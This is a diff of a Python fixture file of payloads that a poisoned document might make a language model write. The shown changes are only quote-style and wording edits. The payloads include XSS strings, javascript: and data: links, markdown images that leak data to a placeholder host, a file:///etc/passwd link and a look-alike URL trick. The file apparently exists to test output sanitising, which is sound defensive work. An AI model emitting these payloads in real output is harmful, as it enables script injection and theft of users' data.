@@ -1,4 +1,4 @@
-"""Answers that a poisoned document might make a model write: scripts, look-alike links, requests without a click."""
+"""What a poisoned document might make a model write: scripts, look-alike links, requests without a click."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ _HTML = (
     "<img src=x onerror=alert(1)>",
     "<img src={e}/?leak=secret>",
     "<img/src={e}/a.png/onload=alert(1)>",
-    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
+    '<IMG SRC="jav&#x09;ascript:alert(1);">',
     "<img srcset='{e}/a 1x, {e}/b 2x'>",
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
@@ -105,9 +105,9 @@ _LINKS = (
     "[x](/api/v1/session)",
     "[x](\\\\evil.example\\share)",
     "[x](view-source:{e})",
-    "[x]({e} \"\\\" onmouseover=alert(1) x=\\\"\")",
+    '[x]({e} "\\" onmouseover=alert(1) x=\\"")',
     "[x]({e} 'a\" onclick=\"alert(1)')",
-    "[x]({e}/\"onmouseover=\"alert(1))",
+    '[x]({e}/"onmouseover="alert(1))',
     "[x]({e}/'><img src=x onerror=alert(1)>)",
     "[<img src=x onerror=alert(1)>]({e})",
     "[![x]({e}/a.png)](javascript:alert(1))",
@@ -116,8 +116,8 @@ _LINKS = (
     "<javascript:alert(1)>",
     "<data:text/html,x>",
     "<file:///etc/passwd>",
-    "<{e}/\"onmouseover=alert(1)>",
-    "[x](mailto:a@b.c?body=\"><script>alert(1)</script>)",
+    '<{e}/"onmouseover=alert(1)>',
+    '[x](mailto:a@b.c?body="><script>alert(1)</script>)',
     "[x](http://[::1)",
     "[x](http://a\u202ecom.elpmaxe)",
 )
@@ -128,8 +128,8 @@ _IMAGES = (
     "![x](/api/v1/conversations)",
     "![x](data:image/svg+xml,<svg onload=alert(1)>)",
     "![x](javascript:alert(1))",
-    "![\"onerror=\"alert(1)]({e}/x)",
-    "![x]({e}/x \"a\\\" onerror=alert(1)\")",
+    '!["onerror="alert(1)]({e}/x)',
+    '![x]({e}/x "a\\" onerror=alert(1)")',
     "![<script>alert(1)</script>]({e}/x)",
     "![![x]({e}/a)]({e}/b)",
     "![x][leak]\n\n[leak]: {e}/?leak=secret",
@@ -142,13 +142,13 @@ _IMAGES = (
 
 _SHAPES = (
     "```html\n<script>alert(1)</script>\n```",
-    "```\" onmouseover=\"alert(1)\nx\n```",
+    '```" onmouseover="alert(1)\nx\n```',
     "`<img src=x onerror=alert(1)>`",
     "    <script>alert(1)</script>",
     "> <script>alert(1)</script>",
     "- <svg onload=alert(1)>",
     "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|c|",
-    "|a|\n|:\" onclick=alert(1)-|\n|b|",
+    '|a|\n|:" onclick=alert(1)-|\n|b|',
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#60;script&#62;alert(1)&#60;/script&#62;",
     "\\<script>alert(1)\\</script>",
